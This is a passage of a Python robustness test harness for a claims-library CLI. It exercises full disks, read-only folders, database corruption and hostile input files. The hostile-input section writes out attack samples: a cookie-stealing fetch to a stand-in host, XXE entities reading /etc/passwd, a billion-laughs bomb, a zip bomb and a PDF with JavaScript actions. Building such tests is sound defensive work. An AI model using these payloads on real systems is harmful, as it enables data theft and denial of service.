            row.crashed += int(first.crashed)
            return row
        claim_id = first_claim(path)
        log = work / "fill.log"
        filler = spawn_child("fill", [str(path), str(claim_id)], env, log)
        filler.wait(timeout=HANG_S)
        lines = log_lines(log)
        tried = sum(line.startswith("try ") for line in lines)
        acked = {line.split()[1] for line in lines if line.startswith("ack ")}
        refusals = [line for line in lines if line.startswith("refused ")]
        free_kb = shutil.disk_usage(disk).free // 1024
        row.tried, row.ok, row.refused = tried, len(acked), len(refusals)
        if filler.returncode != 0:
            row.crashed += 1
            row.note(f"the note writer died (exit {filler.returncode}): {lines[-1:]} ")
        before = contents(path)
        more = write_article(work / "tmpfs-files", "library.txt", SECOND_ARTICLE)
        commands = [
            ("import", ["import", str(more)], None),
            ("backup", ["backup"], None),
            (
                "export --pdf onto the full disk",
                ["export", "1", "--pdf", str(disk / "memo.pdf")],
                disk / "memo.pdf",
            ),
            (
                "export --markdown onto the full disk",
                ["export", "1", "--markdown", str(disk / "memo.md")],
                disk / "memo.md",
            ),
            ("list", ["list"], None),
        ]
        if quick:
            commands = [command for command in commands if "markdown" not in command[0]]
        for label, args, out in commands:
            ran = claimdesk(label, path, *args, env=env)
            row.saw(ran)
            row.tried += 1
            left = partial_files(disk)
            truncated = out is not None and out.exists() and ran.code != 0
            if ran.crashed:
                row.crashed += 1
            elif ran.code == 0:
                row.ok += 1
            elif ran.clear_refusal:
                row.refused += 1
            row.note(
                f"{label}: {ran.outcome}, exit {ran.code}; {ran.first_line(90) or 'no message'}"
                + (f"; {len(left)} .partial left" if left else "")
                + ("; a partial output was left" if truncated else "")
            )
        found = stored_notes(path)
        lost = len(acked - found) if found is not None else len(acked)
        after = contents(path)
        row.lost = lost + lost_rows(before, after)
        row.fatal = row.lost > 0
        row.note(
            f"note writer: {tried} tried, {len(acked)} committed, {len(refusals)} refused "
            f"({shorten(refusals[0].split(' ', 2)[2])[:70] if refusals else 'none'}), {lost} lost; "
            f"{free_kb} KB free when it stopped; "
            f"integrity after: {after['integrity'] if after else 'unreadable'}"
        )
    return row


def first_claim(path: Path) -> int:
    with contextlib.closing(sqlite3.connect(path)) as connection:
        return int(connection.execute("SELECT min(id) FROM claim").fetchone()[0])


def stored_notes(path: Path) -> set[str] | None:
    try:
        with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as connection:
            return {body.split(" ", 1)[0] for (body,) in connection.execute("SELECT body FROM note")}
    except sqlite3.Error:
        return None


# ---------------------------------------------------------------------------------------------
# 4. Permissions

NO_OVERRIDE = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", "--"]
THIRD_ARTICLE = """Bridge repairs delayed

The roads agency said the repairs to the river bridge would finish in June, not April.

Engineers found 18 cracked girders, according to a report seen by this newspaper.
"""


def make_chmod_only(folder: Path) -> Callable[[], None]:
    folder.chmod(0o555)
    for file in folder.iterdir():
        if file.is_file():
            file.chmod(0o444)
    return lambda: restore_modes(folder)


def make_immutable(folder: Path) -> Callable[[], None] | None:
    files = [str(folder), *(str(p) for p in folder.iterdir() if p.is_file())]
    if subprocess.run(["chattr", "+i", *files], capture_output=True).returncode:
        return None
    return lambda: quietly(["chattr", "-i", *files])


def make_bind_read_only(folder: Path) -> Callable[[], None] | None:
    if subprocess.run(["mount", "--bind", str(folder), str(folder)], capture_output=True).returncode:
        return None
    if subprocess.run(["mount", "-o", "remount,bind,ro", str(folder)], capture_output=True).returncode:
        quietly(["umount", "-l", str(folder)])
        return None
    return lambda: quietly(["umount", "-l", str(folder)])


def suite_permissions(work: Path, quick: bool) -> Row:
    row = Row("permissions: read-only folder", unit="commands on a library whose folder cannot be written")
    template = work / "perm-template" / "claimdesk.sqlite3"
    build_library(template, work / "perm-files")
    new_article = write_article(work / "perm-files", "bridge.txt", THIRD_ARTICLE)
    setpriv = shutil.which("setpriv") is not None
    cases: list[tuple[str, Callable[[Path], Callable[[], None] | None], list[str]]] = [
        ("chmod 555/444 as root", make_chmod_only, []),
        ("chmod 555/444, no DAC override", make_chmod_only, NO_OVERRIDE),
        ("chattr +i folder and files", make_immutable, []),
        ("read-only bind mount", make_bind_read_only, []),
        ("read-only tmpfs", lambda folder: read_only_tmpfs(folder, template), []),
    ]
    if not setpriv:
        cases = [case for case in cases if case[2] != NO_OVERRIDE]
        row.note("setpriv is missing: as root, chmod binds nothing, so the chmod case proves little")
    if quick:
        cases = [case for case in cases if case[0] in ("chmod 555/444, no DAC override", "read-only tmpfs")]
    commands = (
        ("list", ["list"]),
        ("import", ["import", str(new_article)]),
        ("backup", ["backup"]),
        ("export --pdf into it", ["export", "1", "--pdf"]),
    )

    def one(
        case: tuple[str, Callable[[Path], Callable[[], None] | None], list[str]],
    ) -> tuple[list[str], list[Ran], int] | None:
        label, make_read_only, prefix = case
        folder = work / "perm" / re.sub(r"\W+", "-", label)
        folder.mkdir(parents=True)
        path = folder / template.name
        shutil.copy(template, path)
        # Reading it first leaves -wal and -shm beside it, as any reader of a WAL library does.
        before, digest = contents(path), path.read_bytes()
        undo = make_read_only(folder)
        if undo is None:
            return None
        results: list[Ran] = []
        try:
            env = environment(folder)
            for name, args in commands:
                out = [str(folder / "memo.pdf")] if name.startswith("export") else []
                results.append(run(name, [*prefix, PY, "-m", "app", "--db", str(path), *args, *out], env))
            modes = (
                f"modes after: folder {folder.stat().st_mode & 0o777:o}, file {path.stat().st_mode & 0o777:o}"
            )
        finally:
            undo()
        after = contents(path)
        lost = lost_rows(before, after)
        changed = path.read_bytes() != digest
        flag = "WROTE TO A READ-ONLY LIBRARY: " if changed and "as root" not in label else ""
        lines = [
            f"{flag}{label}: "
            + ", ".join(f"{r.label} {r.outcome}" for r in results)
            + f"; file {'changed' if changed else 'unchanged'}; rows lost {lost}; {modes}"
        ]
        refusal = next((r for r in results if r.code != 0), None)
        if refusal is not None:
            lines.append(f"    {refusal.label} said: {refusal.first_line(100)}")
        return lines, results, lost

    with ThreadPoolExecutor(max_workers=2) as pool:
        for case, done in zip(cases, pool.map(one, cases), strict=True):
            if done is None:
                row.note(f"{case[0]}: skipped (not permitted here)")
                continue
            lines, results, lost = done
            row.details += lines
            row.lost += lost
            for ran in results:
                row.saw(ran)
                row.tried += 1
                row.crashed += int(ran.crashed)
                row.ok += int(ran.code == 0 and not ran.crashed)
                row.refused += int(ran.clear_refusal)
    row.fatal = row.lost > 0
    return row


def restore_modes(folder: Path) -> None:
    folder.chmod(0o700)
    for file in folder.iterdir():
        if file.is_file():
            file.chmod(0o600)


def read_only_tmpfs(folder: Path, template: Path) -> Callable[[], None] | None:
    """The folder becomes a tmpfs holding the library, remounted read-only."""
    mount = ["mount", "-t", "tmpfs", "-o", "size=8m,mode=0700", "tmpfs", str(folder)]
    if subprocess.run(mount, capture_output=True).returncode:
        return None
    shutil.copy(template, folder / template.name)
    if subprocess.run(["mount", "-o", "remount,ro", str(folder)], capture_output=True).returncode:
        subprocess.run(["umount", "-l", str(folder)], capture_output=True)
        return None
    return lambda: quietly(["umount", "-l", str(folder)])


def quietly(command: list[str]) -> None:
    subprocess.run(command, capture_output=True)


# ---------------------------------------------------------------------------------------------
# 5. Hostile input


def pdf_document(objects: list[bytes], *, cut: int | None = None) -> bytes:
    """A PDF from its numbered objects (1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out[:cut] if cut else out)


def text_pdf(extra_catalog: bytes = b"", kids: bytes = b"[3 0 R]") -> list[bytes]:
    stream = b"BT /F1 12 Tf 72 720 Td (The minister said 40 schools closed on Monday.) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + extra_catalog + b">>",
        b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def docx(path: Path, document: Callable[[zipfile.ZipFile], None]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        document(archive)
    return path


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def paragraph_xml(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def big_page(path: Path, size: int, article: str) -> Path:
    """A real article followed by `size` bytes of teaser links (a long index page, say)."""
    with path.open("w", encoding="utf-8") as out:
        out.write(f"<!DOCTYPE html><html><head><title>Ferry strike</title></head><body><article>{article}")
        written, n = 0, 0
        while written < size:
            chunk = "".join(
                f'<div class="teaser"><a href="/story/{n + k}">Teaser {n + k}: the quay, the ferry and the '
                f"strike</a><span>Read more</span></div>\n"
                for k in range(1000)
            )
            out.write(chunk)
            written += len(chunk)
            n += 1000
        out.write("</article></body></html>")
    return path


def hostile_files(folder: Path, quick: bool) -> list[Path]:
    """Pages and documents built to fetch, run, read, stall or exhaust something."""
    folder.mkdir(parents=True)
    article = "".join(f"<p>{line}</p>" for line in ARTICLE.splitlines()[2:] if line)
    made: list[Path] = []

    def page(name: str, head: str, body: str) -> None:
        path = folder / name
        path.write_text(
            f"<!DOCTYPE html><html><head>{head}</head><body>{body}</body></html>", encoding="utf-8"
        )
        made.append(path)

    page(
        "scripts.html",
        '<title>Ferry strike</title><meta http-equiv="refresh" content="0; url=https://evil.invalid/">'
        '<script src="https://js.invalid/t.js"></script><script>fetch("https://evil.invalid/"+document.cookie)'
        "</script>",
        '<article onload="steal()"><h1 onclick="x()">Ferry strike</h1>'
        f'{article}<iframe src="https://evil.invalid/f"></iframe>'
        '<a href="javascript:steal()">more</a></article>',
    )
    page(
        "remote.html",
        '<title>Ferry strike</title><link rel="stylesheet" href="https://cdn.invalid/a.css">'
        '<link rel="dns-prefetch" href="//dns.invalid"><link rel="preconnect" href="https://pre.invalid">'
        "<style>@import url(https://cdn.invalid/b.css); body{background:url(http://img.invalid/bg.png)}</style>",
        '<article><img src="http://127.0.0.1:9/pixel.gif"><img srcset="https://img.invalid/a.jpg 2x">'
        '<picture><source srcset="https://img.invalid/b.webp"></picture><video poster="https://img.invalid/p.jpg">'
        f"</video>{article}"
        '<object data="https://evil.invalid/x.swf"></object><embed src="http://127.0.0.1:9/e"></article>',
    )
    page(
        "dev-zero.html",
        '<title>x <img src="/dev/zero"></title><link rel="icon" href="/dev/zero">',
        '<article><h1>Port <img src="/dev/zero"> closed</h1><img src="/dev/zero"><img src="file:///dev/zero">'
        f'<img src="/dev/random">{article}<img src="/etc/shadow"></article>',
    )
    page(
        "html-title.html",
        "<title>&lt;b&gt;Bold&lt;/b&gt; &lt;img src=&quot;/dev/zero&quot;&gt; &lt;a href=x&gt;link&lt;/a&gt;"
        " &lt;script&gt;alert(1)&lt;/script&gt;</title>",
        '<article><h1>&lt;img src="/dev/zero"&gt; &lt;table&gt;&lt;tr&gt;&lt;td&gt;x</h1>'
        f"{article}</article>",
    )
    depth = 20000 if quick else 100000
    page("deep-nesting.html", "<title>Deep</title>", "<div>" * depth + article + "</div>" * depth)
    page("deep-lists.html", "<title>Deep lists</title>", "<ul><li>" * (depth // 10) + article)
    page("unclosed.html", "<title>Unclosed</title>", "<table><tr><td><b><i><u>" * 5000 + article)

    for size in (0.25,) if quick else (1, 50):
        made.append(big_page(folder / f"page-{size:g}MB.html", int(size * MB), article))

    wrong = folder / "wrong-encoding.html"
    wrong.write_bytes(
        b'<html><head><meta charset="utf-8"><title>Caf\xe9 strike</title></head><body><article>'
        + "".join(
            f"<p>\x93{line}\x94 said the caf\xe9 owner.</p>" for line in ARTICLE.splitlines()[2:] if line
        ).encode("latin-1", "replace")
        + b"</article></body></html>"
    )
    utf16 = folder / "utf16-no-bom.txt"
    utf16.write_bytes(ARTICLE.encode("utf-16-le"))
    bogus = folder / "bogus-charset.html"
    bogus.write_bytes(
        b'<html><head><meta charset="x-no-such-charset"><title>T</title></head><body>'
        + ARTICLE.encode("shift_jis", "replace")
        + b"</body></html>"
    )
    made += [wrong, utf16, bogus]

    fifo = folder / "fifo.html"
    os.mkfifo(fifo)
    zero_link = folder / "zero-link.html"
    zero_link.symlink_to("/dev/zero")
    sparse = folder / "sparse-10GB.txt"
    with sparse.open("wb") as handle:
        handle.truncate(10 * 2**30)
    made += [fifo, zero_link, sparse]

    binary = folder / "binary.html"
    with open(PY, "rb") as source:
        binary.write_bytes(source.read(2 * MB))
    random_bytes = folder / "random.md"
    random_bytes.write_bytes(random.Random(1).randbytes(256 * 1024))
    nuls = folder / "nul.txt"
    nuls.write_bytes(b"\x00" * 100_000)
    empty = folder / "empty.html"
    empty.write_bytes(b"")
    made += [binary, random_bytes, nuls, empty]

    odd_name = folder / os.fsdecode(b"caf\xe9-binary-\xff.txt")
    odd_name.write_bytes(b"\x00\x01\x02 binary \xff\xfe" * 100)
    odd_good = folder / os.fsdecode(b"caf\xe9-article.txt")
    odd_good.write_text(ARTICLE, encoding="utf-8")
    line_name = folder / "two\nlines.txt"
    line_name.write_text(SECOND_ARTICLE, encoding="utf-8")
    made += [odd_name, odd_good, line_name]

    pdfs = {
        "good-text.pdf": pdf_document(text_pdf()),
        "truncated.pdf": pdf_document(text_pdf(), cut=300),
        "garbage.pdf": b"%PDF-1.7\n" + random.Random(2).randbytes(64 * 1024),
        "page-tree-loop.pdf": pdf_document(text_pdf(kids=b"[2 0 R 3 0 R]")),
        "open-action.pdf": pdf_document(
            text_pdf(
                b"/OpenAction << /S /URI /URI (http://127.0.0.1:9/pdf) >> "
                b"/Names << /JavaScript << /Names [(x) << /S /JavaScript "
                b"/JS (app.launchURL\\('http://x.invalid'\\)) >>]"
                b" >> >> "
            )
        ),
        "length-lie.pdf": pdf_document(
            [*text_pdf()[:3], b"<< /Length 999999999 >>\nstream\nBT ET\nendstream", text_pdf()[4]]
        ),
    }
    for name, data in pdfs.items():
        (folder / name).write_bytes(data)
        made.append(folder / name)

    body = "".join(paragraph_xml(line) for line in ARTICLE.splitlines() if line)
    made.append(
        docx(
            folder / "good.docx",
            lambda a: a.writestr(
                "word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>"
            ),
        )
    )

    def bomb(archive: zipfile.ZipFile) -> None:
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(f"<w:document {W}><w:body>{body}<w:p><w:r><w:t>".encode())
            spaces = b" " * MB
            for _ in range(40 if quick else 400):
                part.write(spaces)
            part.write(b"</w:t></w:r></w:p></w:body></w:document>")

    made.append(docx(folder / "zip-bomb.docx", bomb))
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    made.append(
        docx(
            folder / "billion-laughs.docx",
            lambda a: a.writestr(
                "word/document.xml",
                f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY l0 "ha">{laughs}]>'
                f"<w:document {W}><w:body>{body}{paragraph_xml('&l9;')}</w:body></w:document>",
            ),
        )
    )
    made.append(
        docx(
            folder / "external-entity.docx",
            lambda a: a.writestr(
                "word/document.xml",
                '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY net SYSTEM "http://127.0.0.1:9/xxe">'
                '<!ENTITY file SYSTEM "file:///etc/passwd">'
                '<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/dtd"> %dtd;]>'
                f"<w:document {W}><w:body>{body}{paragraph_xml('&net;&file;')}</w:body></w:document>",
            ),
        )
    )
    not_docx = folder / "not-a-docx.docx"
    with zipfile.ZipFile(not_docx, "w") as archive:
        archive.writestr("hello.txt", "no word document here")
    made.append(not_docx)
    many = folder / "many-members.docx"
    with zipfile.ZipFile(many, "w") as archive:
        for n in range(20000):
            archive.writestr(f"junk/{n}.xml", "")
    made.append(many)

    xhtml = folder / "external-dtd.xhtml"
    xhtml.write_text(
        '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
        '"http://127.0.0.1:9/xhtml1-strict.dtd" [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">'
        '<!ENTITY pw SYSTEM "file:///etc/passwd">]><html xmlns="http://www.w3.org/1999/xhtml"><head>'
        f"<title>Ferry strike</title></head><body><article>{article}<p>&x;&pw;</p></article></body></html>",
        encoding="utf-8",
    )
    made.append(xhtml)
    mhtml = folder / "hostile.mhtml"
    mhtml.write_text(
        "From: <Saved by a browser>\nSubject: Ferry strike\nMIME-Version: 1.0\n"
        'Content-Type: multipart/related; boundary="B"; type="text/html"\n\n--B\n'
        "Content-Type: text/html; charset=utf-8\nContent-Location: https://news.invalid/ferry\n\n"
        f'<html><head><title>Ferry strike</title></head><body><img src="cid:pic"><img src="file:///dev/zero">'
        f'<img src="https://img.invalid/x.png">{article}</body></html>\n--B\n'
        "Content-Type: image/png\nContent-Location: file:///etc/passwd\nContent-ID: <pic>\n\n"
        "not a png\n--B--\n",
        encoding="utf-8",
    )
    made.append(mhtml)
    deep_md = folder / "deep.md"
    deep_md.write_text(
        ">" * 50000 + " quote\n\n" + "[" * 50000 + "\n\n" + "- " * 20000 + "x\n\n" + ARTICLE, encoding="utf-8"
    )
    remote_md = folder / "remote.md"
    remote_md.write_text(
        '# Ferry strike\n\n![pixel](http://127.0.0.1:9/p.png) <img src="/dev/zero">\n\n'
        "<script>alert(1)</script>\n\n" + ARTICLE.split("\n", 2)[2],
        encoding="utf-8",
    )
    one_sentence = folder / "one-long-sentence.txt"
    one_sentence.write_text("Title\n\n" + "word, " * 300_000 + "end.\n", encoding="utf-8")
    zalgo = folder / "combining-and-bidi.txt"
    zalgo.write_text(
        "T\u0336\u0337\u0338itle \u202eevil\u202c\n\n"
        + "".join(ch + "\u0301\u0302\u0303" * 20 for ch in ARTICLE.split("\n", 2)[2]),
        encoding="utf-8",
    )
    made += [deep_md, remote_md, one_sentence, zalgo]
    return made


QUICK_HOSTILE = {  # --quick: the news pages and these
    *("scripts.html", "remote.html", "dev-zero.html", "html-title.html", "deep-nesting.html"),
    *("page-0.25MB.html", "wrong-encoding.html", "fifo.html", "binary.html"),
    *("page-tree-loop.pdf", "zip-bomb.docx", "external-entity.docx"),
    *("external-dtd.xhtml", os.fsdecode(b"caf\xe9-article.txt")),
}
QUICK_MEMOS = {"dev-zero.html", "html-title.html"}
SLOW_FIRST = ("page-50MB.html", "one-long-sentence.txt", "page-1MB.html", "page-0.25MB.html", "zip-bomb.docx")


@dataclass
class Tried:
    file: Path
    imported: Ran
    memo: Ran | None
    leaked: bool  # the stored article holds a local file's text (/etc/passwd) that the file pointed to


def holds_local_file(path: Path) -> bool:
    try:
        with contextlib.closing(sqlite3.connect(f"file:{path}?mode=ro", uri=True)) as connection:
            found = connection.execute(
                "SELECT count(*) FROM article WHERE instr(text, 'root:x:0:0') OR instr(title, 'root:x:0:0')"
            ).fetchone()
    except sqlite3.Error:
        return False
    return bool(found[0])


def suite_hostile(work: Path, quick: bool, per_file: bool) -> tuple[Row, Row]:
    row = Row("hostile input: import", unit="files imported by `claimdesk import`, one process each")
    memo = Row(
        "hostile input: memo of each", unit="`claimdesk export ID --pdf` of each generated file imported"
    )
    traced = strace_works()
    limit = 30.0 if quick else 60.0
    template = work / "hostile-template.sqlite3"
    from app.storage.database import open_database

    open_database(template).close()
    news = sorted(p for p in NEWS_HTML.rglob("*") if p.is_file()) if NEWS_HTML.is_dir() else []
    if not news:
        row.note(f"{NEWS_HTML} is missing: only the generated files were tried")
    made = hostile_files(work / "hostile", quick)
    if quick:
        made = [file for file in made if file.name in QUICK_HOSTILE]
    slow = sorted((file for file in made if file.name in SLOW_FIRST), key=lambda f: SLOW_FIRST.index(f.name))
    files = [*slow, *news, *(file for file in made if file.name not in SLOW_FIRST)]
    env = environment(work / "hostile-home")
    libraries = work / "hostile-libraries"
    libraries.mkdir()

    def one(index: int, file: Path) -> Tried:
        path = libraries / f"{index:03d}.sqlite3"
        shutil.copy(template, path)
        ran = claimdesk(file.name, path, "import", str(file), env=env, traced=traced, timeout=limit)
        exported = None
        wanted = file.parent != NEWS_HTML and (not quick or file.name in QUICK_MEMOS)
        if wanted and ran.code == 0 and ran.out.strip().isdigit():
            out = str(libraries / f"{index:03d}.pdf")
            exported = claimdesk(
                f"memo of {file.name}",
                path,
                "export",
                ran.out.strip(),
                "--pdf",
                out,
                env=env,
                traced=traced,
                timeout=limit,
            )
        return Tried(file, ran, exported, holds_local_file(path))

    with ThreadPoolExecutor(max_workers=2) as pool:
        tried = list(pool.map(lambda pair: one(*pair), enumerate(files)))
    probes = 0
    for results_row, runs in (
        (row, [t.imported for t in tried]),
        (memo, [t.memo for t in tried if t.memo is not None]),
    ):
        for ran in runs:
            results_row.tried += 1
            results_row.saw(ran)
            if ran.crashed:
                results_row.crashed += 1
                results_row.note(
                    f"{ran.outcome}: {printable(ran.label)}: {ran.first_line(80)} "
                    f"({ran.seconds:.1f} s, {ran.peak_mb:.0f} MB)"
                )
            elif ran.code == 0:
                results_row.ok += 1
            elif ran.clear_refusal:
                results_row.refused += 1
            else:
                results_row.note(f"UNCLEAR: {printable(ran.label)}: exit {ran.code}, {ran.first_line(80)}")
            if ran.trace is not None:
                seen = sockets_in(ran.trace)
                probes += seen.probes
                if seen.network or seen.local:
                    results_row.lost += 1  # in these rows, "lost" counts runs that opened a socket
                    results_row.note(f"SOCKET: {printable(ran.label)}: {seen.describe()}")
        if runs:
            slowest = max(runs, key=lambda r: r.seconds)
            heaviest = max(runs, key=lambda r: r.peak_mb)
            results_row.note(
                f"worst case: {printable(slowest.label)} {slowest.seconds:.1f} s ({slowest.outcome}); "
                f"heaviest {printable(heaviest.label)} {heaviest.peak_mb:.0f} MB ({heaviest.outcome})"
            )
        results_row.fatal = results_row.crashed > 0 or results_row.lost > 0
    for t in tried:
        if t.leaked:
            row.crashed += 1
            row.note(f"LEAK: {printable(t.file.name)}: the article holds the text of /etc/passwd")
    row.fatal = row.fatal or any(t.leaked for t in tried)
    row.unit += "; lost = runs that opened a socket"
    memo.unit += "; lost = runs that opened a socket"
    if traced:
        row.note(
            f"sockets, under strace -f (imports and memos): {row.lost + memo.lost} runs opened one; not "
            f"counted: {probes} urllib3 import-time IPv6 checks (socket, bind to ::1 port 0, never connected)"
        )
    else:
        row.note("sockets: NOT MEASURED (strace missing or ptrace not permitted)")
    refusals = [t for t in tried if t.imported.clear_refusal and t.file.parent != NEWS_HTML]
    row.note(
        f"{len(tried)} files ({len(news)} of ../shared/eval/news/html); refused in one line, e.g.: "
        + "; ".join(t.imported.first_line(60) for t in refusals[:2])
    )
    if per_file:
        for each in [t.imported for t in tried] + [t.memo for t in tried if t.memo is not None]:
            print(
                f"  {each.outcome:<8} exit {each.code:>3} {each.seconds:>6.2f} s {each.peak_mb:>5.0f} MB  "
                f"{printable(each.label)[:40]:<40} {each.first_line(70)}"
            )
    return row, memo


def printable(name: str) -> str:
    return name.encode("utf-8", "backslashreplace").decode("utf-8").replace("\n", "\\n")


# ---------------------------------------------------------------------------------------------
# 6. Corruption


def page_of(path: Path, table: str, kind: str) -> int | None:
    with contextlib.closing(sqlite3.connect(path)) as connection:
        found = connection.execute(
            "SELECT pageno FROM dbstat WHERE name = ? AND pagetype = ? ORDER BY pageno LIMIT 1", (table, kind)
        ).fetchone()
    return int(found[0]) if found else None


def garble_page(table: str, kind: str, seed: int) -> Callable[[Path], str]:
    def damage(path: Path) -> str:
        number = page_of(path, table, kind)
        if number is None:
            return "no such page"
        size = 4096
        data = bytearray(path.read_bytes())
        noise = random.Random(seed).randbytes(size - 16)
        start = (number - 1) * size + (100 if number == 1 else 0) + 8
        data[start : start + len(noise)] = noise[: min(len(noise), len(data) - start)]
        path.write_bytes(bytes(data))
        return f"page {number}"

    return damage


def truncate_to(share: float) -> Callable[[Path], str]:
    def damage(path: Path) -> str:
        size = path.stat().st_size
        with path.open("r+b") as handle:
            handle.truncate(int(size * share))
        return f"{size} -> {int(size * share)} bytes"

    return damage


def zero_header(path: Path) -> str:
    with path.open("r+b") as handle:
        handle.write(b"\x00" * 100)
    return "100 bytes"


def with_schema(sql: str) -> Callable[[Path], str]:
    def damage(path: Path) -> str:
        connection = sqlite3.connect(path, isolation_level=None)
        connection.execute("PRAGMA writable_schema=ON")
        connection.execute(sql)
        connection.close()
        return "schema edited"

    return damage


LATE_NOTES = 20


def change_text(path: Path) -> str:
    """Bytes of an article's text changed where they lie: every page still reads (SQLite has no
    checksums), so no check can see it; what a bad disk sector or a stray write would do."""
    data = bytearray(path.read_bytes())
    where = data.find(b"340 crew members")
    if where < 0:
        return "text not found"
    data[where : where + 3] = b"999"
    path.write_bytes(bytes(data))
    return "'340' became '999'"


def garble_wal(path: Path) -> str:
    """Commits that are only in the WAL, then one of its frames overwritten: SQLite stops at it."""
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA wal_autocheckpoint=0")
    for n in range(LATE_NOTES):
        connection.execute(
            "INSERT INTO note (uid, claim_id, body, author, created_at, updated_at) "
            "SELECT ?, min(id), 'late note', 'x', '2025-01-01', '2025-01-01' FROM claim",
            (f"late-{n}",),
        )
    wal = Path(f"{path}-wal")
    held_main, held_wal = path.read_bytes(), bytearray(wal.read_bytes())  # before close checkpoints
    connection.close()
    frame = 24 + 4096  # the WAL header is 32 bytes, then frames of a 24-byte header and a page
    held_wal[32 + 2 * frame + 24 : 32 + 2 * frame + 24 + 64] = b"\xa5" * 64
    path.write_bytes(held_main)
    wal.write_bytes(bytes(held_wal))
    return f"{LATE_NOTES} commits only in the WAL, its 3rd frame garbled"


def age_backups(folder: Path, age: timedelta) -> None:
    """Give every backup in `folder` the time `age` ago in its name (the rotation reads the name)."""
    stamp = (datetime.now(UTC) - age).strftime("%Y%m%dT%H%M%SZ")
    for copy in folder.glob("*.sqlite3"):
        copy.rename(copy.with_name(re.sub(r"\d{8}T\d{6}Z", stamp, copy.name)))


QUICK_DAMAGE = {"truncated to half", "header zeroed", "claim table page garbled", "schema page garbled"}
QUICK_DAMAGE |= {"index-only (writable_schema), check due", "truncated to 0 bytes"}


def suite_corruption(work: Path, quick: bool) -> Row:
    row = Row("corruption: damaged library", unit="damaged libraries opened by `claimdesk --db X list`")
    row.unit += (
        "; ok = detected (set aside with the backup offered, repaired, or warned); lost = opened silently"
    )
    template = work / "corrupt-template"
    build_library(template / "library.sqlite3", work / "corrupt-files", notes=40)
    env = environment(work / "corrupt-home")
    claimdesk("backup", template / "library.sqlite3", "backup", env=env)  # a daily and a manual copy
    listed_before = claimdesk("list", template / "library.sqlite3", "list", env=env).out
    age_backups(template / "backups", timedelta(days=2))  # so each case's open is due its daily full check
    before = contents(template / "library.sqlite3")
    index_sql = (
        "UPDATE sqlite_master SET sql = 'CREATE INDEX ix_claim_article_start ON claim (article_id, \"end\")'"
        " WHERE name = 'ix_claim_article_start'"
    )
    check_sql = (
        "UPDATE sqlite_master SET sql = replace(sql, 'title TEXT NOT NULL', "
        "'title TEXT NOT NULL CHECK (title = ''x'')') WHERE name = 'article'"
    )
    cases: list[tuple[str, Callable[[Path], str]]] = [
        ("truncated to half", truncate_to(0.5)),
        ("truncated to 0 bytes", truncate_to(0.0)),
        ("header zeroed", zero_header),
        ("claim table page garbled", garble_page("claim", "leaf", 1)),
        ("schema page garbled", garble_page("sqlite_schema", "leaf", 2)),
        ("index page garbled", garble_page("ix_claim_article_start", "leaf", 3)),
        ("article text changed in place", change_text),
        ("full-text index page garbled", garble_page("claim_fts_data", "leaf", 5)),
        ("index-only (writable_schema), check due", with_schema(index_sql)),
        ("index-only, a backup made today", with_schema(index_sql)),
        ("CHECK no longer met, check due", with_schema(check_sql)),
        ("WAL frame garbled", garble_wal),
    ]
    if quick:
        cases = [case for case in cases if case[0] in QUICK_DAMAGE]

    def one(number: int) -> tuple[str, str, Ran, Ran | None]:
        label, damage = cases[number]
        folder = work / "corrupt" / f"case-{number:02d}"
        shutil.copytree(template, folder)
        path = folder / "library.sqlite3"
        if "today" in label:  # the daily full check is not due until tomorrow
            age_backups(folder / "backups", timedelta(0))
        what = damage(path)
        damaged = contents(path)
        env_here = environment(folder)
        ran = claimdesk(label, path, "list", env=env_here)
        searched = claimdesk(label, path, "search", "ferries", env=env_here) if ran.code == 0 else None
        after = contents(path) if path.exists() else None
        set_aside = any(folder.glob("library.sqlite3.damaged-*"))
        expected = dict(before or {})
        if damage is garble_wal:  # its commits count as the library's data
            expected["note"] = int(expected["note"]) + LATE_NOTES  # type: ignore[call-overload]
        intact = (
            ran.code == 0
